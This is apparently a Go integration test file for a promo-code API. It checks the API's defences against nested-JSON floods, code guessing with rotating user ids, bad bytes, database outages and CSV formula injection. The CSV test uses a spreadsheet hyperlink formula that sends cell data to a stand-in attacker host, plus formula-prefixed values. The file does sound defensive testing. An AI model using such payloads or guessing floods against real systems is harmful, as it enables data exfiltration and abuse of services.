//go:build integration

package main

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/promocodes/promocodes/api"
)

// The abuse cases of the standing adversarial suite: each runs the real API
// process on SQLite and on PostgreSQL and logs one line per database.

// abuseDBs are the databases every case runs on.
var abuseDBs = []string{"sqlite", "postgres"}

// abuseAPI starts a broker and one API process on db (sqlite: a file of its
// own; postgres: the stack's schema), with extra env, and returns the stack
// and the API process.
func abuseAPI(t *testing.T, db string, extra ...string) (*stack, *proc) {
	t.Helper()
	s := newStack(t)
	if db == "sqlite" {
		file := filepath.Join(s.dir, "api.db")
		s.env = append(s.env, "PROMOCODES_DB_DRIVER=sqlite", "PROMOCODES_DB_DSN="+file)
		if out, err := s.run("migrate"); err != nil {
			t.Fatalf("migrate sqlite: %v\n%s", err, out)
		}
	}
	s.startBroker()
	addr := freePort(t)
	p := s.start("api", append([]string{"PROMOCODES_HTTP_ADDR=" + addr}, extra...), "api")
	s.apiURL = "http://" + addr
	waitHTTP(t, s.apiURL+"/readyz", 30*time.Second)
	return s, p
}

// request sends one request with the admin token from a client, and returns
// the status, the Retry-After header and the body.
func request(t testing.TB, hc *http.Client, method, url, body string) (int, string, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+testToken)
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header.Get("Retry-After"), b
}

// clientFrom is an HTTP client whose connections come from the loopback
// address ip (127.0.0.0/8 is all local on Linux): a distinct client address
// for the API, without a proxy.
func clientFrom(ip string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext,
		MaxIdleConnsPerHost: 16}}
}

// vanity creates a vanity promotion and returns its id.
func vanity(t testing.TB, s *stack, code string, maxUsage int) string {
	t.Helper()
	b, _ := json.Marshal(code)
	status, _, body := request(t, http.DefaultClient, "POST", s.apiURL+"/v1/promotions",
		fmt.Sprintf(`{"name":"adversarial","code":%s,"maxUsagePerCode":%d}`, b, maxUsage))
	if status != http.StatusCreated {
		t.Fatalf("create vanity %q: %d %s", code, status, body)
	}
	var r struct{ ID string }
	_ = json.Unmarshal(body, &r)
	return r.ID
}

// resetPeakRSS makes the process's VmHWM its current RSS (proc(5)
// clear_refs), so that a later VmHWM is the peak since now.
func resetPeakRSS(t testing.TB, pid int) int64 {
	t.Helper()
	if err := os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", pid), []byte("5"), 0); err != nil {
		t.Skipf("cannot reset the API's peak RSS: %v", err)
	}
	return procStatusKiB(t, pid, "VmHWM:")
}

// A 1 MiB body nested as deep as it fits, on every endpoint that takes
// JSON: 4xx in under 100 ms, the API's peak RSS within 20 MiB.
func TestAdversarialNestedJSONBody(t *testing.T) {
	for _, db := range abuseDBs {
		t.Run(db, func(t *testing.T) {
			s, p := abuseAPI(t, db)
			id := vanity(t, s, "NESTED2026", 10)
			var spec struct {
				Paths map[string]map[string]json.RawMessage `json:"paths"`
			}
			if err := json.Unmarshal(api.OpenAPI(), &spec); err != nil {
				t.Fatal(err)
			}
			size := 1<<20 - 64
			nest := func(prefix, open, close, suffix string) string {
				n := (size - len(prefix) - len(suffix)) / (len(open) + len(close))
				return prefix + strings.Repeat(open, n) + strings.Repeat(close, n) + suffix
			}
			bodies := []string{nest("", `{"a":`, `}`, ""), nest("", `[`, `]`, ""),
				nest(`{"userId":"u","orderId":"o","metadata":`, `{"a":`, `}`, `}`),
				nest(`{"userId":"u","orderId":"o","metadata":{"a":`, `[`, `]`, `}}`)}
			start := resetPeakRSS(t, p.cmd.Process.Pid)
			var slowest time.Duration
			n, refused := 0, 0
			for path, item := range spec.Paths {
				for m, raw := range item {
					var op struct {
						RequestBody json.RawMessage `json:"requestBody"`
					}
					if m == "parameters" || json.Unmarshal(raw, &op) != nil || op.RequestBody == nil {
						continue
					}
					url := s.apiURL + strings.NewReplacer("{id}", id, "{code}", "NESTED2026").Replace(path)
					for _, b := range bodies {
						t0 := time.Now()
						status, _, body := request(t, http.DefaultClient, strings.ToUpper(m), url, b)
						took := time.Since(t0)
						slowest, n = max(slowest, took), n+1
						if status >= 400 && status < 500 {
							refused++
						} else {
							t.Errorf("%s %s nested: %d %.200s, want 4xx", m, path, status, body)
						}
						if took > 100*time.Millisecond {
							t.Errorf("%s %s nested: answered in %s, want under 100ms", m, path, took)
						}
					}
				}
			}
			growth := float64(procStatusKiB(t, p.cmd.Process.Pid, "VmHWM:")-start) / 1024
			if growth > 20 {
				t.Errorf("the API's peak RSS grew %.1f MiB, want under 20", growth)
			}
			t.Logf("adversarial: %s [%s]: %d requests with %d-byte nested bodies, %d answered 4xx, slowest %s, API peak RSS +%.1f MiB",
				"nested JSON 1 MiB", db, n, size, refused, slowest.Round(100*time.Microsecond), growth)
		})
	}
}

// One address guessing as fast as it likes for a minute, a new userId with
// every guess and some in a real shopper's name: at most redeem.guessLimit
// (30) guesses are answered; the shopper, from her own address, redeems.
func TestAdversarialGuessRotation(t *testing.T) {
	for _, db := range abuseDBs {
		t.Run(db, func(t *testing.T) {
			t.Parallel() // a minute each
			s, p := abuseAPI(t, db)
			vanity(t, s, "REAL2026", 10)
			attacker := clientFrom("127.0.0.2")
			const minute = time.Minute
			deadline := time.Now().Add(minute)
			var mu sync.Mutex
			counts := map[int]int{}
			var wg sync.WaitGroup
			rssStart := procStatusKiB(t, p.cmd.Process.Pid, "VmRSS:")
			for w := range 2 {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for i := 0; time.Now().Before(deadline); i++ {
						user := fmt.Sprintf("rot-%d-%d", w, i)
						if i%10 == 0 {
							user = "alice" // failures in the real shopper's name
						}
						status, _, _ := request(t, attacker, "GET", fmt.Sprintf("%s/v1/codes/GUESS%d%d?userId=%s", s.apiURL, w, i, user), "")
						mu.Lock()
						counts[status]++
						mu.Unlock()
						time.Sleep(2 * time.Millisecond) // about 1,000 guesses a second: enough, and frugal
					}
				}()
			}
			wg.Wait()
			answered := 0
			for st, n := range counts {
				if st != http.StatusTooManyRequests {
					answered += n
				}
			}
			total := answered + counts[http.StatusTooManyRequests]
			rssGrowth := float64(procStatusKiB(t, p.cmd.Process.Pid, "VmRSS:")-rssStart) / 1024
			alice := clientFrom("127.0.0.3")
			status, _, body := request(t, alice, "POST", s.apiURL+"/v1/codes/REAL2026/redemptions", `{"userId":"alice","orderId":"o-1"}`)
			if status != http.StatusCreated {
				t.Errorf("alice from her own address: %d %s, want 201", status, body)
			}
			if answered > 30 {
				t.Errorf("%d guesses answered in a minute from one address, limit 30 (%v)", answered, counts)
			}
			t.Logf("adversarial: %s [%s]: %d guesses in %s from one address rotating userId, %d answered (limit 30), %d refused 429; alice from another address redeemed: %d; API RSS %+.1f MiB",
				"guess rotation", db, total, minute, answered, counts[http.StatusTooManyRequests], status, rssGrowth)
		})
	}
}

// Bad bytes in metadata answer 422 and write nothing; a database that goes
// away answers 503 with Retry-After, never 500, and the API recovers when it
// is back. PostgreSQL: the API process behind a TCP proxy that is cut (open
// connections reset, new ones refused). SQLite: the file held under an
// exclusive lock by another process, which is how SQLite goes away for
// writers (readers still read, in WAL mode).
func TestAdversarialBadBytesAndLostDatabase(t *testing.T) {
	for _, db := range abuseDBs {
		t.Run(db, func(t *testing.T) {
			var proxy *tcpProxy
			var extra []string
			s := (*stack)(nil)
			if db == "postgres" {
				s = newStack(t)
				var dsn string
				proxy, dsn = s.dbProxy()
				extra = append(extra, dsn)
				s.startBroker()
				s.apiURL = s.startAPIAt("api", extra...)
			} else {
				s, _ = abuseAPI(t, db)
			}
			id := vanity(t, s, "BYTES2026", 10)
			bad := 0
			for _, meta := range []string{"\"\xff\xfe\"", `"\ud800"`, `"a\u0000b"`, "\"a\x00b\""} {
				status, _, body := request(t, http.DefaultClient, "POST", s.apiURL+"/v1/codes/BYTES2026/redemptions",
					`{"userId":"u","orderId":"o","metadata":{"note":`+meta+`}}`)
				if status != http.StatusUnprocessableEntity || !strings.Contains(string(body), "metadata.note") {
					t.Errorf("metadata %q: %d %s, want 422 naming metadata.note", meta, status, body)
				}
				bad++
			}
			_, _, page := request(t, http.DefaultClient, "GET", s.apiURL+"/v1/promotions/"+id+"/redemptions", "")
			written := strings.Count(string(page), `"id"`)
			if written != 0 {
				t.Errorf("bad bytes wrote %d redemptions", written)
			}
			// The database goes away.
			var release func()
			if db == "postgres" {
				proxy.Cut()
				release = proxy.Restore
			} else {
				release = holdSQLiteLock(t, filepath.Join(s.dir, "api.db"))
			}
			// Requests in parallel: on SQLite each waits out the busy timeout (10 s).
			var mu sync.Mutex
			var wg sync.WaitGroup
			counts := map[int]int{}
			withRetryAfter := 0
			down := time.Now()
			for i := range 6 {
				for _, req := range []struct{ method, path, body string }{
					{"POST", "/v1/codes/BYTES2026/redemptions", fmt.Sprintf(`{"userId":"u%d","orderId":"o"}`, i)},
					{"GET", "/v1/codes/BYTES2026?userId=u", ""},
					{"POST", "/v1/promotions", fmt.Sprintf(`{"name":"down","code":"DOWN%d2026"}`, i)},
				} {
					wg.Add(1)
					go func() {
						defer wg.Done()
						status, retryAfter, body := request(t, http.DefaultClient, req.method, s.apiURL+req.path, req.body)
						mu.Lock()
						defer mu.Unlock()
						counts[status]++
						switch {
						case status == http.StatusServiceUnavailable && retryAfter != "" &&
							strings.Contains(string(body), `"status":503`):
							withRetryAfter++
						case db == "sqlite" && req.method == "GET" && status == http.StatusOK:
							// SQLite in WAL mode: readers are not blocked by the lock holder.
						default:
							t.Errorf("%s %s with the database gone: %d (Retry-After %q) %.200s, want 503", req.method,
								req.path, status, retryAfter, body)
						}
					}()
				}
			}
			wg.Wait()
			downFor := time.Since(down)
			release()
			recovered := time.Now()
			for {
				status, _, body := request(t, http.DefaultClient, "POST", s.apiURL+"/v1/codes/BYTES2026/redemptions",
					`{"userId":"after","orderId":"o"}`)
				if status == http.StatusCreated {
					break
				}
				if time.Since(recovered) > 30*time.Second {
					t.Fatalf("no redemption 30 s after the database came back: %d %s", status, body)
				}
				time.Sleep(200 * time.Millisecond)
			}
			t.Logf("adversarial: %s [%s]: %d bad-byte metadata answered 422, %d written; database gone %s: %d requests, %d answered 503 with Retry-After, %d reads answered 200, %d × 500; redeemed again %s after it came back",
				"bad bytes and lost database", db, bad, written, downFor.Round(time.Millisecond), total(counts), withRetryAfter,
				counts[http.StatusOK], counts[http.StatusInternalServerError], time.Since(recovered).Round(time.Millisecond))
		})
	}
}

// holdSQLiteLock takes the database's locks from outside the API process
// (an exclusive transaction on the file, as a backup tool or a stuck shell
// would) and returns its release.
func holdSQLiteLock(t *testing.T, file string) func() {
	t.Helper()
	db, err := sql.Open("sqlite", file) // the driver pkg/store/sqlite registers
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.ExecContext(ctx, "BEGIN EXCLUSIVE"); err != nil {
		t.Fatalf("take the SQLite lock: %v", err)
	}
	return func() {
		_, _ = conn.ExecContext(ctx, "ROLLBACK")
		conn.Close()
		db.Close()
	}
}

// CSV downloads of vanity codes like =1+2 and of shoppers' userId/orderId
// like =HYPERLINK(...) carry no cell a spreadsheet would run, and removing
// one leading quote gives every value back.
func TestAdversarialCSVFormulas(t *testing.T) {
	for _, db := range abuseDBs {
		t.Run(db, func(t *testing.T) {
			s, _ := abuseAPI(t, db)
			hyperlink := `=HYPERLINK("http://attacker.example/?d="&A1,"refund")`
			codes := []string{"=1+2", "+CMD", "@SUM", "'QUOTE"}
			cells, neutralised, dangerous := 0, 0, 0
			check := func(rows [][]string) {
				for _, row := range rows[1:] {
					for _, c := range row {
						cells++
						if strings.HasPrefix(c, "'") {
							neutralised++
						}
						if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
							dangerous++
							t.Errorf("CSV cell %q would run in a spreadsheet", c)
						}
					}
				}
			}
			for _, code := range codes {
				id := vanity(t, s, code, 5)
				for _, u := range [][2]string{{hyperlink, "-2+3"}, {"@alice", "+order"}} {
					ub, _ := json.Marshal(u[0])
					ob, _ := json.Marshal(u[1])
					status, _, body := request(t, http.DefaultClient, "POST", s.apiURL+"/v1/codes/"+strings.NewReplacer("+", "%2B").Replace(code)+"/redemptions",
						fmt.Sprintf(`{"userId":%s,"orderId":%s}`, ub, ob))
					if status != http.StatusCreated {
						t.Fatalf("redeem %q: %d %s", code, status, body)
					}
				}
				exp := readCSVFrom(t, s.apiURL+"/v1/promotions/"+id+"/codes", "")
				if len(exp) != 2 || strings.TrimPrefix(exp[1][0], "'") != code {
					t.Errorf("codes export of %q: %q: removing one quote does not give the code back", code, exp)
				}
				check(exp)
				red := readCSVFrom(t, s.apiURL+"/v1/promotions/"+id+"/redemptions", "text/csv")
				for _, row := range red[1:] {
					if u := strings.TrimPrefix(row[3], "'"); u != hyperlink && u != "@alice" {
						t.Errorf("redemptions CSV user %q: removing one quote does not give the userId back", row[3])
					}
				}
				check(red)
			}
			t.Logf("adversarial: %s [%s]: %d vanity codes (=1+2, +CMD, @SUM, 'QUOTE) with =HYPERLINK/@/+ users and orders: %d CSV cells, %d neutralised with a quote, %d a spreadsheet would run",
				"CSV formulas", db, len(codes), cells, neutralised, dangerous)
		})
	}
}

// readCSVFrom downloads a CSV with the admin token.
func readCSVFrom(t *testing.T, url, accept string) [][]string {
	t.Helper()
	req, _ := http.NewRequest("GET", url, nil)
	req.Header.Set("Authorization", "Bearer "+testToken)
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		b, _ := io.ReadAll(resp.Body)
		t.Fatalf("GET %s: %d %s", url, resp.StatusCode, b)
	}
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	return rows
}

func total(counts map[int]int) int {
	n := 0
	for _, c := range counts {
		n += c
	}
	return n
}
